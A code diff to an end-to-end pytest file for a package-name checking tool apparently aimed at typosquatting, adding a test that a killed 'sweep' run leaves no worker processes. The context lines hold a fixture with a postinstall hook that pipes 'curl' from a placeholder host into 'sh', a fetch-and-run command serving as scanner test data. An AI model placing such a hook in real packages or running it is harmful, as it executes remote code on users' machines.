@@ -15,8 +15,10 @@ from pathlib import Path
 
 import pytest
 
+from assay.store.corpus_file import save_corpus
 from tests.end_to_end import locked
 from tests.end_to_end.run import HANGS_SECONDS, Finished, Machine, command
+from tests.names.small import small_bytes
 from tests.registry_simulator import Fault, RegistrySimulator
 
 FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
@@ -152,6 +154,17 @@ def test_a_check_offline_that_is_interrupted_says_how_far_it_came(machine: Machi
     done = finished(running)
     assert done.code == 130
     assert re.fullmatch(r"assay: stopped after [\d,]+ of 10,000 names", done.stderr.strip())
+
+
+def test_a_sweep_that_is_killed_leaves_no_worker(machine: Machine, tmp_path: Path) -> None:
+    save_corpus(machine.data / "corpus.bin", small_bytes())
+    names = tmp_path / "names.txt"
+    names.write_text("".join(f"react-{number}-lodahs\n" for number in range(1_000_000)))
+    running = start(machine, "sweep", "names", "--names", names)
+    until(lambda: len(members(running.pid)) > 1)
+    running.kill()
+    assert finished(running).code == -signal.SIGKILL
+    until(lambda: not members(running.pid))
 
 
 def start(machine: Machine, *words: str | Path) -> subprocess.Popen[str]:
